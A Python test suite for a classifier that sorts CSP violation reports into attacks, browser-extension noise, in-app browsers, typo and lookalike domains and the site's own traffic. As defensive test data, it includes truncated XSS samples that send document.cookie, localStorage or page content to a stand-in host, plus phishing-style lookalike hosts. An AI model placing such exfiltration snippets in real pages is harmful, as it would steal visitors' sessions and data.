from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from issues.verdicts import RULES, ProjectFacts, Rule, judge
from issues.verdicts.evidence import declared_hosts, is_local, readable, registrable
from issues.verdicts.injected import host_of_list
from issues.verdicts.lists import hosts, schemes
from issues.verdicts.lists.addresses import GRAMMARS, grammar_of
from issues.verdicts.lists.finder import Finder, needed_by
from issues.verdicts.lists.samples import LONG_NAMES, SIGNATURES, hides_ads, signature_of
from issues.verdicts.lookalike import distance, imitates, typo_of
from policies.address import parse_address
from policies.words import NOISE_SLUGS, VERDICTS
from tests.issues.reports import CHROME, FIREFOX, judged, violation

RULE_LIST = pytest.mark.parametrize("rule", RULES.values(), ids=RULES)
FINDERS = [Finder(row[2] for row in table) for table in (SIGNATURES, GRAMMARS)]
INLINE = {"effective-directive": "script-src-elem", "blocked-uri": "inline"}


def fired(fields: dict[str, str], facts: ProjectFacts | None = None) -> set[str]:
    return {mark.rule for mark in judged(fields, facts).marks}


@RULE_LIST
def test_each_rule_fires_on_its_own_report(rule: Rule) -> None:
    assert rule.id in fired(rule.fires_on)


@RULE_LIST
def test_each_rule_is_silent_on_its_counter_report(rule: Rule) -> None:
    assert rule.id not in fired(rule.silent_on)


@RULE_LIST
def test_each_rule_can_be_read(rule: Rule) -> None:
    assert rule.verdict in VERDICTS
    assert rule.title
    assert rule.source
    assert rule.reason.endswith(".")
    reason = next(mark.reason for mark in judged(rule.fires_on).marks if mark.rule == rule.id)
    assert "{}" not in reason


@RULE_LIST
def test_each_noise_rule_can_be_paused(rule: Rule) -> None:
    if rule.verdict in NOISE_SLUGS:
        sites = tuple(rule.fires_on.get("sites", "").split())
        assert rule.id not in fired(rule.fires_on, ProjectFacts(sites=sites, paused=frozenset({rule.id})))


@pytest.mark.parametrize("host", [host for table in hosts.BY_RULE.values() for host in table])
def test_each_listed_host_is_found_with_its_subdomains_and_nothing_that_only_ends_like_it(host: str) -> None:
    assert host_of_list(host)
    assert host_of_list(f"a.b.{host}")
    assert not host_of_list(f"x{host}") or host_of_list(f"x{host}") == host_of_list(host.partition(".")[2])


def test_no_listed_host_is_a_shared_service() -> None:
    assert not hosts.SHARED & {host for table in hosts.BY_RULE.values() for host in table}


@pytest.mark.parametrize("rule, _whose, _pattern, sample", SIGNATURES)
def test_each_signature_knows_its_sample(rule: str, _whose: str, _pattern: str, sample: str) -> None:
    assert len(sample) <= 42
    found = signature_of(sample)
    assert found is not None
    assert found[0] == rule
    assert RULES[rule]


@pytest.mark.parametrize("name", LONG_NAMES)
def test_a_long_name_is_known_by_its_beginning_where_the_browser_cut_the_sample(name: str) -> None:
    whole = signature_of(f"{name};")
    assert whole is not None
    assert signature_of(f"{name[:12]:>40}") == whole
    assert signature_of(f"a = {name[:12]}…") == whole


@pytest.mark.parametrize(
    "sample", [f"{'vimiumOnClic':>39}", f"{'vimiumOnCli':>40}", f"{'vimiumOnClicks':>40}", f"{'vimiumOnClic ':>40}", "…", ""]
)
def test_no_shorter_no_other_and_no_finished_name_is_taken_for_a_cut_one(sample: str) -> None:
    assert signature_of(sample) is None


@pytest.mark.parametrize("rule, _whose, _pattern, address", GRAMMARS)
def test_each_grammar_knows_its_address(rule: str, _whose: str, _pattern: str, address: str) -> None:
    found = grammar_of(readable(parse_address(address)))
    assert found is not None
    assert found[0] == rule
    assert RULES[rule]


@given(st.lists(st.sampled_from([*(row[3] for row in SIGNATURES), *(row[3] for row in GRAMMARS)]), min_size=1, max_size=3), st.data())
def test_the_finder_finds_what_asking_every_pattern_finds(texts: list[str], data: st.DataObject) -> None:
    text = "".join(text[data.draw(st.integers(0, 12)) : data.draw(st.integers(12, 60))] for text in texts)
    for table, finder in zip((SIGNATURES, GRAMMARS), FINDERS, strict=True):
        assert finder.first(text) == next((index for index, row in enumerate(table) if re.search(row[2], text)), None)


@pytest.mark.parametrize(
    "pattern, needed",
    [
        (r"\bfoo(?:bar|baz)?\d+", {"foo"}), (r"(?:alpha|beta)-x", {"alpha", "beta"}), (r"(?:alpha|.)x", set()), (r"[ab]?c*", set()),
        (r"(?:long){2}|other", {"long", "other"}), (r"(?!never)some", {"some"}), (r"ab|cde", set()), (r"(?:maybe)*surely", {"surely"}),
        (r"(?i:any)thing", {"thing"}),
        (r"(?i:anything)", set()),
    ],
)  # fmt: skip
def test_what_a_pattern_cannot_do_without(pattern: str, needed: set[str]) -> None:
    assert needed_by(pattern) == needed


@pytest.mark.parametrize(
    "text",
    [
        "www.google-analytics.com/g/collect?v=2&tid=G-1", "shop.example/checkout/payment?step=2", "cdn.shop.example/static/app.ffee0011.js",
        "d2x9qk3v7lm41z.cloudfront.net/catalog/88123/large_41b2.jpg", "stadtblatt-vh.akamaihd.net/i/live/seg_00041.ts",
        "s3.amazonaws.com/shop-assets/size-guide/v5.js", "assets.pinterest.com/js/pinit.js", "shop.example/contents/scripts.js",
        "translate.google.com/translate_a/element.js?cb=googleTranslateElementInit", "shop.example/search?q=or+1",
        "cdn.sencha.com/ext/gpl/4.2/ext-all.js", "graph.keepa.com/pricehistory.png?asin=B0", "shop.example/bmi-int-js/bmi.js",
        "203.0.113.9/bmi-calculator/bmi.js",
    ],
)  # fmt: skip
def test_ordinary_addresses_are_no_injectors(text: str) -> None:
    assert grammar_of(text) is None


@pytest.mark.parametrize(
    "sample",
    [
        "window.dataLayer=window.dataLayer||[];da", "var oeffnungszeiten = {mo:\"9-18\",di:\"9-1",
        ".loader{position:fixed;inset:0;backgroun",
        "(function(){function c(){var b=a.content", "window.RB={env:\"prod\",build:4413};", "body{background:#eee}", "javascript:void(0)",
        ".lt-highlighter { position: absolute; }", "--lt-div: 4px; .lt-mirror{display:block}", "window.__instagramFeed = [];",
        "fbq('init', '123'); fbq('track', 'PageVi", "gtag('config', 'G-ABC');", "!function(e,t){window.Stripe=t()}(this,fu",
    ],
)  # fmt: skip
def test_ordinary_code_is_nobodys_signature(sample: str) -> None:
    assert signature_of(sample) is None
    assert not hides_ads(sample)


@pytest.mark.parametrize(
    "sample, sends",
    [
        ("this.src='//c.example.net/?'+docum", True), ("fetch('https://c.example.net/?'+localSto", True),
        ("fetch(`//c.example.net/${document.cookie}", True),
        ("location='//c.example.net/'+btoa(documen", True), ("new Image().src='//c.example.net/?c='+esca", False),
        ("this.src='//c.example.net/?'+doc", False), ("this.src='/fallback.png'+document.cookie", False),
        ("this.src='//cdn.shop.example/?'+document", False),
        ("i.src='//c.example.net/h?'+document.refer", False), ("fetch('//api.stripe.com/?'+document.body", False),
        ("this.src='//c.example.net/a.png'", False),
    ],
)  # fmt: skip
def test_code_that_hands_the_pages_data_to_a_stranger_is_an_attack(sample: str, sends: bool) -> None:
    report = {**INLINE, "source-file": "https://shop.example/page", "line-number": "140", "script-sample": sample}
    assert ("xss-sends" in fired(report)) is sends
    assert (judged(report).verdict == "attack") is (sends or "document.cookie" in sample)


@pytest.mark.parametrize(
    "page, directive, host, alike",
    [
        ("/login", "form-action", "marlowbank.invalid", True), ("/login", "form-action", "online-marlowbank.invalid", True),
        ("/signin", "connect-src", "marlow-bank.invalid", True), ("/login", "script-src-elem", "marlowbanksecure.invalid", True),
        ("/login", "connect-src", "marlowbamk.invalid", True), ("/login", "connect-src", "rnarlowbank.invalid", True),
        ("/login", "form-action", "online.marlowbank.example.evil.invalid", True), ("/checkout", "form-action", "marlowbank.invalid", True),
        ("/accounts/2fa", "form-action", "marlowbank-login.web.app", True), ("/news", "form-action", "marlowbank.invalid", False),
        ("/login", "img-src", "marlowbank.invalid", False), ("/login", "form-action", "accounts.google.com", False),
        ("/login", "connect-src", "secure.marlowbank.example", False), ("/login", "script-src-elem", "marlowbank-cdn.invalid", False),
        ("/login", "script-src-elem", "marlowbank.firebaseapp.com", False), ("/login", "connect-src", "marlowbank-rtdb.web.app", False),
        ("/login", "connect-src", "marlowbank.auth0.com", False), ("/authors/1", "connect-src", "marlowbank.invalid", False),
    ],
)  # fmt: skip
def test_a_host_that_looks_like_the_pages_own_where_people_sign_in(page: str, directive: str, host: str, alike: bool) -> None:
    document = f"https://online.marlowbank.example{page}"
    report = {"document-uri": document, "effective-directive": directive, "blocked-uri": f"https://{host}/s"}
    assert ("lookalike-own" in fired(report)) is alike
    if alike:
        assert (judged(report).verdict, judged(report).confidence) == ("attack", "likely")
        known = {**report, "original-policy": f"default-src 'self' https://{host}; report-uri /csp"}
        assert "lookalike-own" not in fired(known)


TEXT_STYLE, PDF_STYLE = "word-wrap: break-word; white-space: pre-", "height: 100%; width: 100%; overflow: hid"


@pytest.mark.parametrize(
    "path, sample, viewed",
    [
        ("/robots.txt", TEXT_STYLE, True), ("/sitemap.xml", TEXT_STYLE, True), ("/feed/", TEXT_STYLE, True), ("/a.json", TEXT_STYLE, True),
        ("/a.pdf", PDF_STYLE, True), ("/a.PDF", "", True), ("/a.html", PDF_STYLE, False), ("/a.txt", PDF_STYLE, False),
        ("/feed/", "color:red", False), ("/notes", TEXT_STYLE, False), ("/a.pdf", "height:40px", False), ("/a.pdf/edit", PDF_STYLE, False),
    ],
)  # fmt: skip
def test_only_the_viewers_own_style_on_a_file_is_the_browsers(path: str, sample: str, viewed: bool) -> None:
    report = {"effective-directive": "style-src-attr", "blocked-uri": "inline", "script-sample": sample}
    assert ("viewer" in fired({**report, "document-uri": f"https://shop.example{path}"})) is viewed


@pytest.mark.parametrize(
    "agent, file, theirs",
    [
        ("[FBAN/FBIOS;FBAV/528]", "en_US/iab.autofill.enhanced.js", True), ("[FBAN/FBIOS;FBAV/528]", "en_US/fbevents.js", False),
        ("Instagram 391.0.0.41", "en_US/iab.js?v=2", True), ("Instagram 391.0.0.41", "en_US/sdk.js", False),
        ("Line/13.0", "en_US/iab.js", False), ("", "en_US/iab.js", False), ("Instagram 391.0.0.41", "en_US/iabulous.js", False),
    ],
)  # fmt: skip
def test_metas_bridge_is_an_apps_only_in_metas_apps(agent: str, file: str, theirs: bool) -> None:
    report = {"effective-directive": "script-src-elem", "blocked-uri": f"https://connect.facebook.net/{file}"}
    assert ("in-app-script" in fired({**report, "user-agent": f"Mozilla/5.0 (iPhone) Mobile/15E148 {agent}"})) is theirs


@pytest.mark.parametrize("scheme", schemes.EXTENSION)
@pytest.mark.parametrize("spelling", ["{}", "{}:", "{}://", "{}:2:248774", "{}://abcdefgh/x.js"])
@pytest.mark.parametrize("field", ["blocked-uri", "source-file"])
def test_extension_schemes_in_every_spelling_and_field(scheme: str, spelling: str, field: str) -> None:
    if (scheme, spelling) == ("extension", "{}"):
        spelling = "{}:"  # as a bare word it is no scheme
    for text in (spelling.format(scheme), spelling.format(scheme).upper()):
        found = judged({"effective-directive": "font-src", "blocked-uri": "https://cdn.service.example/a.woff", field: text})
        assert (found.verdict, found.confidence, found.noise_class) == ("extension", "certain", "extension")


def test_an_extension_that_the_project_declared_is_not_muted_and_its_key_stays() -> None:
    fields = {"effective-directive": "img-src", "blocked-uri": "chrome-extension://aapbdbdomjkkjkaonfhkkikfgjllcleb/a.png"}
    own = judged(fields, ProjectFacts(own_extensions=("aapbdbdomjkkjkaonfhkkikfgjllcleb",)))
    other = judged(fields, ProjectFacts(own_extensions=("bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb",)))
    assert own.verdict not in NOISE_SLUGS
    assert other.verdict == "extension"
    assert own.noise_class == other.noise_class == "extension"


def test_a_scheme_that_the_project_declared_is_its_own() -> None:
    fields = {"effective-directive": "frame-src", "blocked-uri": "acme-app://open"}
    assert judged(fields).verdict == "browser"
    assert judged(fields, ProjectFacts(own_schemes=("acme-app:",))).verdict not in NOISE_SLUGS


def test_first_run_on_localhost_shows_its_reports() -> None:
    fields = {**INLINE, "document-uri": "http://localhost:3000/"}
    assert judged(fields).verdict == "own"
    assert judged({**fields, "sites": "localhost:3000"}).verdict == "own"
    assert judged({**fields, "sites": "shop.example"}).verdict == "development"


def test_an_undeclared_host_of_the_same_domain_is_not_muted_but_tagged() -> None:
    found = judged({**INLINE, "document-uri": "https://blog.shop.example/", "sites": "www.shop.example"})
    assert found.verdict == "own"
    assert "undeclared-own-host" in found.tags


def test_in_app_browsers_alone_mute_nothing() -> None:
    agent = "Mozilla/5.0 (iPhone) AppleWebKit/605.1.15 Mobile/15E148 Instagram 389.0.0.20.80"
    found = judged({"effective-directive": "script-src-elem", "blocked-uri": "https://js.sentry-cdn.com/a.js", "user-agent": agent})
    assert found.verdict == "third-party"
    assert "in-app" in found.tags


def test_a_look_of_noise_never_mutes_an_attack() -> None:
    fields = {
        "document-uri": "https://shop.example/checkout", "effective-directive": "script-src-elem", "blocked-uri": "https://unknown.example/ext/pay.js",
    }  # fmt: skip
    found = judged(fields)
    assert found.verdict == "attack"
    assert "ext-address" in {mark.rule for mark in found.marks}
    assert found.noise_class == ""
    assert judged({**fields, "document-uri": "https://shop.example/blog"}).verdict == "extension"


def test_a_sensitive_page_that_the_project_declares_is_watched_too() -> None:
    fields = {
        "document-uri": "https://shop.example/vault/7",
        "effective-directive": "connect-src",
        "blocked-uri": "https://unknown.example/c",
    }
    assert judged(fields).verdict == "third-party"
    assert judged(fields, ProjectFacts(sensitive=("/vault*",))).verdict == "attack"


def test_a_file_of_the_sites_own_speaks_against_a_vendors_host() -> None:
    fields = {"effective-directive": "connect-src", "blocked-uri": "https://api.grammarly.com/check"}
    assert judged(fields).verdict == "extension"
    assert judged({**fields, "source-file": "https://shop.example/js/editor.js"}).verdict == "third-party"
    assert judged({**fields, "original-policy": "connect-src https://app.grammarly.com; report-uri /c"}).verdict == "third-party"


def test_what_the_policy_allows_is_a_tag_and_never_a_mute() -> None:
    found = judged({
        "effective-directive": "img-src", "blocked-uri": "https://picsum.service.example/2/3",
        "original-policy": "img-src 'self' https://picsum.service.example; report-uri /csp",
    })  # fmt: skip
    assert found.verdict not in NOISE_SLUGS
    assert {"policy-allows-this", "redirect-suspected"} <= set(found.tags)


def test_a_tag_managers_container_is_named() -> None:
    found = judged({
        "effective-directive": "script-src-elem", "blocked-uri": "https://snap.licdn.com/insight.js",
        "source-file": "https://www.googletagmanager.com/gtm.js?id=GTM-BRKN1",
    })  # fmt: skip
    assert "GTM-BRKN1" in found.reason


@pytest.mark.parametrize("browser", [CHROME, FIREFOX])
def test_declared_sites_are_found_in_whatever_spelling(browser: str) -> None:
    found = judged(
        {
            **INLINE,
            "document-uri": "https://www.xn--mnchen-laden-dlb.example/",
            "sites": "https://www.münchen-laden.example/",
            "user-agent": browser,
        }
    )
    assert found.verdict == "own"
    assert declared_hosts(("https://A.example:8443/x", "*.b.example", " ")) == {"a.example", "*.b.example"}


def test_registrable_domains_and_local_addresses() -> None:
    assert registrable("www.shop.co.uk") == "shop.co.uk"
    assert registrable("10.0.0.1") == "10.0.0.1"
    assert all(
        is_local(host)
        for host in ("localhost", "10.1.2.3", "192.168.0.1", "172.20.1.1", "169.254.1.1", "100.64.0.1", "127.0.0.1", "[::1]", "nas.local")
    )
    assert not any(is_local(host) for host in ("shop.example", "1.1.1.1", "203.0.113.20", "local.adguard.org"))


@pytest.mark.parametrize(
    "host, imitated",
    [
        ("googie-anaiytics.example.com", "google-analytics"), ("xn--brckenshop-0qi.example", "brackenshop"), ("paypa1.example", "paypal"),
        ("www.google-analytics.com", ""), ("cdn.brackenshop.example", ""), ("stripe.com", ""), ("cdn.service.example", ""),
    ],
)  # fmt: skip
def test_hosts_that_imitate(host: str, imitated: str) -> None:
    assert imitates(host, frozenset({"brackenshop.example"})) == imitated


def test_mistyped_hosts() -> None:
    known = frozenset({"brackenshop.example", "service.example"})
    assert typo_of("cdn.brackenshp.example", known) == "brackenshop.example"
    assert typo_of("cdn.brackenshop.example", known) == ""
    assert typo_of("cdn.other.example", known) == ""
    assert typo_of("cdn.shpo.example", frozenset({"shop.example"})) == "shop.example"
    assert typo_of("cdn.stop.example", frozenset({"shop.example"})) == "", "of four letters only a swap is a misspelling"
    assert typo_of("cdn.hops.example", frozenset({"shop.example"})) == ""
    assert distance("abcd", "abdc", 2) == 1
    assert distance("abcd", "wxyz", 2) == 3


def test_judging_gives_the_deciding_mark_first() -> None:
    found = judge(
        violation({"effective-directive": "connect-src", "blocked-uri": "https://localhost:33443/s", "source-file": "moz-extension"}),
        ProjectFacts(),
    )
    assert found.marks[0].rule == "ext-scheme"
    assert {mark.rule for mark in found.marks} >= {"ext-scheme", "local-helper"}


@pytest.mark.parametrize(
    "address, verdict",
    [
        ("http://localhost:35729/livereload", "network"), ("https://aras-bcprox1/x", "network"), ("https://cache.ssi.mi/x", "network"),
        ("https://translate.googleapis.com/element/log?client=te", "translation"), ("https://cache.ssi.example/x", "attack"),
    ],
)  # fmt: skip
def test_what_leads_nowhere_is_no_thief_on_a_payment_page(address: str, verdict: str) -> None:
    report = {"document-uri": "https://shop.example/checkout", "effective-directive": "connect-src", "blocked-uri": address}
    assert judged(report).verdict == verdict


def test_a_declared_site_is_no_imitation_of_itself() -> None:
    report = {
        "document-uri": "https://sh0p-online.example/p",
        "effective-directive": "script-src-elem",
        "blocked-uri": "https://shop-online.example/a.js",
    }
    assert judged(report).verdict == "attack"
    assert judged({**report, "sites": "shop-online.example"}).verdict == "foreign"


def test_a_swapped_letter_of_the_own_name_is_told_as_such() -> None:
    own = judged({"effective-directive": "img-src", "blocked-uri": "https://cdn.shpo.example/i/1.png", "document-uri": "https://www.shop.example/"})
    assert own.verdict == "policy"
    assert own.reason == "Looks like a misspelling or an imitation of your own shop.example. Check before allowing it."
